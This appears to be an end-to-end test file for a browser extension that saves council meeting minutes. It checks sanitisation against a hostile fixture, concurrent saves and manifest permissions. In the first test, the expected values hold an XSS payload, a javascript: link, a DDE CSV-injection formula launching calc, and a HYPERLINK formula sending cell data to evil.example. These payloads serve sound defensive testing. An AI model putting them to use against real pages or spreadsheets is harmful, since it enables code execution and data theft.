import { readFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchWithExtension, openWithPanel, tabIdOf, type ExtensionBrowser } from './support/browser';
import { SOUTHAMPTON } from './support/councils';
import { EXTENSION_DIR, FIXTURES_DIR } from './support/paths';
import { serveCouncil, type CouncilServer } from './support/server';
import { COUNCIL_MATCHES, PAGE_NAME_GLOBS, QUERY_STRING_EXCLUDES } from '@/lib/moderngov/matchPatterns';
import { withoutFilePicker } from './support/saveFile';

const HOSTILE = '/ieListDocuments.aspx?CId=9&MId=666&Ver=4';

let site: CouncilServer;
let browser: ExtensionBrowser;
const dialogs: string[] = [];
beforeAll(async () => {
  // Served on a council domain the content script is declared on.
  site = await serveCouncil({ [HOSTILE]: path.join(FIXTURES_DIR, 'hostile-meeting.html'), ...SOUTHAMPTON.routes }, SOUTHAMPTON.host);
  browser = await launchWithExtension();
  browser.context.on('page', (page) => page.on('dialog', (dialog) => void dialogs.push(dialog.message()).valueOf()));
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null);

describe('hostile page text', () => {
  it('runs nothing in the panel or the library, follows no non-web link, and neutralises CSV formulas', async () => {
    const { page, panel } = await openWithPanel(browser, site.url(HOSTILE));
    await panel.getByRole('status').filter({ hasText: 'Found 1 item.' }).waitFor();
    expect(await panel.locator('.meeting-header h2').textContent()).toBe('Cabinet <img src=x onerror="window.__pwned=1">');
    expect(await panel.locator('main img, main script').count()).toBe(0);
    const hrefs = await panel.locator('main a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
    expect(hrefs.length).toBeGreaterThan(0);
    expect(hrefs.every((href) => /^https?:\/\//.test(href))).toBe(true);
    await panel.getByRole('button', { name: 'Save meeting (1 items)' }).click();
    await panel.getByText('✓ Meeting saved').waitFor();
    expect(await pwned(panel)).toBeNull();

    const library = await browser.openExtensionPage('library.html');
    await library.getByRole('status').filter({ hasText: '3 clauses match.' }).waitFor();
    expect(await library.locator('table.results img, table.results script').count()).toBe(0);
    await withoutFilePicker(library);
    const [download] = await Promise.all([library.waitForEvent('download'), library.getByRole('button', { name: 'Export clauses as CSV' }).click()]);
    const rows = Papa.parse<Record<string, string>>(readFileSync((await download.path()) as string, 'utf8').slice(1), { header: true, skipEmptyLines: true }).data;
    expect(rows.map((r) => r.clause_text)).toEqual(["'=cmd|' /C calc'!A0", "'+SUM(1,2) and @SUM(A1) and -1+1", '<a href="javascript:window.__pwned=1">a link</a> that the report be noted.']);
    expect(rows.every((r) => r.item_title === '\'=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(true);
    expect(await pwned(library)).toBeNull();
    expect(dialogs).toEqual([]);
    await Promise.all([page.close(), panel.close(), library.close()]);
  });
});

describe('saving the same meeting from two tabs at once', () => {
  it('keeps one copy', async () => {
    const url = site.url(SOUTHAMPTON.meeting);
    const tabs: number[] = [];
    for (let i = 0; i < 2; i++) {
      const page = await browser.context.newPage();
      await page.goto(url);
      tabs.push(await tabIdOf(browser.worker, url));
    }
    expect(new Set(tabs).size).toBe(2);
    const panels = await Promise.all(tabs.map((id) => browser.openExtensionPage('sidepanel.html', `?tabId=${id}`, { width: 420, height: 900 })));
    for (const panel of panels) await panel.getByRole('button', { name: 'Save meeting (4 items)' }).waitFor();
    // DOM clicks, both before either save ends: Playwright's click waits for the page to settle, and
    // meanwhile the first save could already have replaced the other panel's button by "✓ Meeting saved".
    await Promise.all(panels.map((panel) => panel.getByRole('button', { name: 'Save meeting (4 items)' }).evaluate((button: HTMLElement) => button.click())));
    for (const panel of panels) await panel.getByText('✓ Meeting saved').waitFor();
    const counts = await panels[0]?.evaluate(async () => {
      const open = indexedDB.open('council-minutes');
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        open.onsuccess = () => resolve(open.result);
        open.onerror = () => reject(open.error);
      });
      const count = (store: string) =>
        new Promise<number>((resolve) => {
          const request = db.transaction(store).objectStore(store).count();
          request.onsuccess = () => resolve(request.result);
        });
      return { meetings: await count('meetings'), items: await count('items'), clauses: await count('clauses') };
    });
    // Southampton's meeting (4 items, 8 clauses) and the hostile one saved above (1 item, 3 clauses).
    expect(counts).toEqual({ meetings: 2, items: 5, clauses: 11 });
  });
});

declare const chrome: {
  management: { getPermissionWarningsByManifest(manifest: string, callback: (warnings: string[]) => void): void };
};

describe('the built manifest', () => {
  const production = JSON.parse(readFileSync(path.join(EXTENSION_DIR, '../chrome-mv3/manifest.json'), 'utf8')) as Record<string, unknown>;

  it('asks only for what is used, no host permission up front, and declares the content script from the page table', () => {
    expect((production.permissions as string[]).sort()).toEqual(['activeTab', 'scripting', 'sidePanel', 'storage', 'unlimitedStorage']);
    expect(production.host_permissions).toBeUndefined();
    expect(production.optional_host_permissions).toEqual(['*://*/*']);
    const scripts = production.content_scripts as { matches: string[]; include_globs: string[]; exclude_matches: string[]; js: string[] }[];
    expect(scripts).toHaveLength(1);
    // WXT sorts the lists; the sets are what the page table and council domains make.
    expect(scripts[0]?.matches).toEqual([...COUNCIL_MATCHES].sort());
    expect(scripts[0]?.include_globs).toEqual([...PAGE_NAME_GLOBS].sort());
    expect(scripts[0]?.exclude_matches).toEqual([...QUERY_STRING_EXCLUDES].sort());
    expect(scripts[0]?.js).toEqual(['content-scripts/content.js']);
  });

  it('installs with no warning about all websites', async () => {
    const library = await browser.openExtensionPage('library.html');
    const warnings = await library.evaluate(
      (manifest) => new Promise<string[]>((resolve) => chrome.management.getPermissionWarningsByManifest(manifest, resolve)),
      JSON.stringify(production),
    );
    // The declared council domains, named together: more than four, so Chrome does not list them.
    expect(warnings).toEqual(['Read and change your data on a number of websites']);
    expect(warnings.join(' ')).not.toMatch(/all websites/i);
    // Nothing has been allowed yet: the declared council domains are not listed as grants.
    const sites = library.getByRole('region', { name: 'Sites you allowed' });
    await sites.getByText('No site has been allowed.').waitFor();
    await library.close();
  });
});
